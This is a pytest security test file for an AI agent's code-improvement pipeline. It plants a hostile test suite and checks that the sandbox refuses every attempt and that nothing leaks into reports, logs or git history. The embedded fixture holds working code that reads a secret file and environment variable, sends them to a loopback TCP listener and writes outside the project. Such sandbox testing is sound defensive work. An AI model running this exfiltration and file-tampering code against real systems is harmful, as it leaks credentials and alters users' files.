"""The improve pipeline end to end with a hostile test suite: its tests try to write outside the copy,
read a planted secret (a file and an environment variable of the PyAgent process), send it to a real
TCP listener on loopback and append to a source file. In git and in-place mode: the user's tree keeps
only the kept changes, the secret is in no output, report, PR.md or event log, the listener receives
nothing, and the report names what the sandbox enforced and refused."""

from __future__ import annotations

import asyncio
import json
import socket
import subprocess
import uuid
from pathlib import Path

import pytest

from pyagent.improve.run import ImproveOptions, RunResult, improve
from tests.improve_helpers import NO_PLUGINS, UNITTEST_CMD, make_project
from tests.security.helpers import Listener

SECRET = f"TOP-SECRET-{uuid.uuid4().hex}"
MARK = "# APPENDED-BY-THE-TESTS"

HOSTILE = '''
import os
import socket
import unittest


class TestHostile(unittest.TestCase):
    def test_tries_everything(self):
        for label, attempt in (
            ("write-outside", lambda: open({outside!r}, "a").write("pwned\\n")),
            ("write-system", lambda: open({system!r}, "w").write("pwned\\n")),
            ("read-secret", lambda: print("LEAK", open({secret!r}).read())),
            ("send", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(
                ("LEAK " + os.environ.get("PYAGENT_E2E_SECRET", "no-env") + open({secret!r}).read()).encode())),
        ):
            try:
                attempt()
                print(label, "DONE")
            except OSError as exc:
                print(label, "REFUSED", exc)
        print("ENV", os.environ.get("PYAGENT_E2E_SECRET", "absent"))
        with open(os.path.join(os.path.dirname(__file__), "..", "pkg", "registry.py"), "a") as f:
            f.write("{mark}\\n")  # inside the copy: allowed, and it must never reach the user's tree
'''


def _snapshot(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in root.rglob("*")
            if p.is_file() and not {".git", ".pyagent", "__pycache__"} & set(p.relative_to(root).parts)}


def _setup(tmp_path: Path, port: int) -> tuple[Path, Path, str]:
    root = make_project(tmp_path / "repo")
    outside = tmp_path / "outside.txt"
    outside.write_text("original\n")
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    system = f"/usr/local/lib/pyagent-e2e-{uuid.uuid4().hex}"
    (root / "tests" / "test_hostile.py").write_text(HOSTILE.format(
        outside=str(outside), system=system, secret=str(secret), port=port, mark=MARK))
    return root, outside, system


def _everything_written(root: Path, result: RunResult) -> str:
    """The run's outputs: every file under .pyagent (reports, PR.md, events.jsonl, run state), the
    result's notes and the test output it kept."""
    parts = [p.read_text(errors="replace") for p in (root / ".pyagent").rglob("*") if p.is_file()]
    parts += result.notes
    for t in (result.tests_before, result.tests_after):
        if t is not None:
            parts.append(t.output_tail)
    return "\n".join(parts)


def _run(root: Path, monkeypatch: pytest.MonkeyPatch, **kw: object) -> RunResult:
    monkeypatch.setenv("PYAGENT_E2E_SECRET", SECRET)  # in PyAgent's own environment, like an API key
    return asyncio.run(improve(ImproveOptions(path=root, max_tasks=3, test_cmd=UNITTEST_CMD, test_env=NO_PLUGINS,
                                              **kw)))  # type: ignore[arg-type]


def _check_common(root: Path, result: RunResult, outside: Path, system: str, listener: Listener) -> dict[str, str]:
    assert result.tests_before is not None
    assert result.tests_before.outcomes.get("test_hostile.TestHostile.test_tries_everything") == "passed"
    tail = result.tests_before.output_tail
    assert "write-outside REFUSED" in tail and "write-system REFUSED" in tail, tail
    assert "read-secret REFUSED" in tail and "send REFUSED" in tail and "ENV absent" in tail, tail
    assert outside.read_text() == "original\n" and not Path(system).exists()
    assert listener.got == b"" and listener.connections == 0
    assert SECRET not in _everything_written(root, result)
    report = json.loads(next((root / ".pyagent").rglob("report.json")).read_text())
    sandbox = report["tests"]["before"]["sandbox"]
    assert sandbox[0].startswith("sandbox: network off") and "writes limited to the copy" in sandbox[0], sandbox
    assert f"Landlock refused access to {system} (EACCES)" in sandbox, sandbox
    assert any("ECONNREFUSED" in line for line in sandbox), sandbox
    pr = next((root / ".pyagent").rglob("PR.md")).read_text()
    assert f"refused: Landlock refused access to {system} (EACCES)" in pr, pr
    events = [json.loads(line) for p in (root / ".pyagent").rglob("events.jsonl") for line in p.read_text().splitlines()]
    assert any(e.get("kind") == "sandbox" and e["refusals"] for e in events), events
    assert any("the sandbox refused" in n for n in result.notes), result.notes
    gate_runs = {t["id"]: t["verification"]["tests"]["sandbox"] for t in report["tasks"]
                 if "passed" in (t["verification"] or {}).get("tests", {})}
    assert gate_runs, "some change's gate ran the tests"
    for sandbox in gate_runs.values():  # every gate run, not only the baseline's, says what confined it
        assert sandbox and sandbox[0].startswith("sandbox: network off"), gate_runs
    gate_events = {e["task_id"] for e in events if e.get("kind") == "sandbox" and e.get("run") == "gate"}
    assert gate_events == set(gate_runs), (gate_events, gate_runs)
    return {t.target: t.status for t in result.tasks}


@pytest.mark.slow
def test_git_mode_hostile_tests_change_nothing_of_the_user_and_leak_nothing(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    listener = Listener(socket.AF_INET, ("127.0.0.1", 0))
    try:
        root, outside, system = _setup(tmp_path, listener.address[1])
        for args in (["init", "-q", "-b", "main"], ["add", "-A"],
                     ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "init"]):
            subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)
        before = _snapshot(root)
        result = _run(root, monkeypatch)
    finally:
        listener.close()
    _check_common(root, result, outside, system, listener)
    assert _snapshot(root) == before, "git mode: the user's tree is byte-identical"
    assert [t for t in result.tasks if t.status == "kept"] and result.branch
    show = subprocess.run(["git", "show", f"{result.branch}:pkg/registry.py"], cwd=root, check=True,
                          capture_output=True, text=True).stdout
    assert MARK not in show, "the tests' side effect is never committed"
    log = subprocess.run(["git", "log", "-p", f"main..{result.branch}"], cwd=root, check=True,
                         capture_output=True, text=True).stdout
    assert SECRET not in log


@pytest.mark.slow
def test_in_place_mode_hostile_tests_keep_only_the_kept_changes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    listener = Listener(socket.AF_INET, ("127.0.0.1", 0))
    try:
        root, outside, system = _setup(tmp_path, listener.address[1])
        before = _snapshot(root)
        result = _run(root, monkeypatch, use_git=False, in_place=True)
    finally:
        listener.close()
    status = _check_common(root, result, outside, system, listener)
    after = _snapshot(root)
    kept = {t.target for t in result.tasks if t.status == "kept"}
    assert kept, status
    assert set(after) == set(before)
    for rel, data in before.items():
        if rel not in kept:
            assert after[rel] == data, f"{rel} changed but no kept change targets it"
    assert MARK.encode() not in after["pkg/registry.py"]
